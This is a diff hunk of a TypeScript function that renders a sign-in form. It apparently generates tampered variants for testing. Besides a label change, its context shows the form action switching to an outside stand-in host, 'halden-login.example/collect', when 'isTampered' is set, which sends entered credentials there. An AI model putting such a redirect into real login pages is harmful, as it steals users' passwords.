@@ -87,7 +87,7 @@ function login(version: number): string {
     "Sign in",
     `<form action="${isTampered ? "https://halden-login.example/collect" : "/session"}" method="post">
 <input type="hidden" name="_csrf" value="${randomBytes(24).toString("base64url")}">
-<label>E-mail <input name="email" type="email"></label>
+<label>Email <input name="email" type="email"></label>
 <label>Password <input name="password" type="password"></label>
 <button>Sign in</button>
 </form>
